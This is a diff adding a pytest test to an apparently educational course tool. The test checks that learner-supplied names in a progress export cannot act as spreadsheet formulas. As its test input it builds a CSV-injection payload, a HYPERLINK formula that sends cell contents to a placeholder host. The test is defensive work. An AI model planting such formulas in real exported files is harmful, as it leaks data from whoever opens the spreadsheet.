@@ -220,6 +220,18 @@ def test_the_certificate_is_honest(ip: InteractiveShell, here: Path) -> None:
     assert isinstance(error, LessonError)
 
 
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", " =", "\uff1d"])
+def test_no_cell_of_the_table_is_a_formula(ip: InteractiveShell, begin: str) -> None:
+    """The names in a learner's file are the learner's; the instructor opens a spreadsheet."""
+    evil = f'{begin}HYPERLINK("http://x/?"&A1,"ok")'
+    progress.change(lambda book: book.exercises.setdefault(evil, progress.Done()))
+    progress.change(lambda book: book.quizzes.setdefault(evil, {evil: progress.Answered()}))
+    rows = list(csv.reader(io.StringIO(overview.export("csv"))))
+    assert any(f"'{evil}" in row for row in rows)
+    assert not [c for row in rows for c in row if c.strip()[:1] in set("=+-@\uff1d")]
+    assert evil in json.loads(overview.export("json"))["exercises"]
+
+
 def test_it_is_handed_in(
     ip: InteractiveShell, capsys: pytest.CaptureFixture[str], here: Path
 ) -> None:
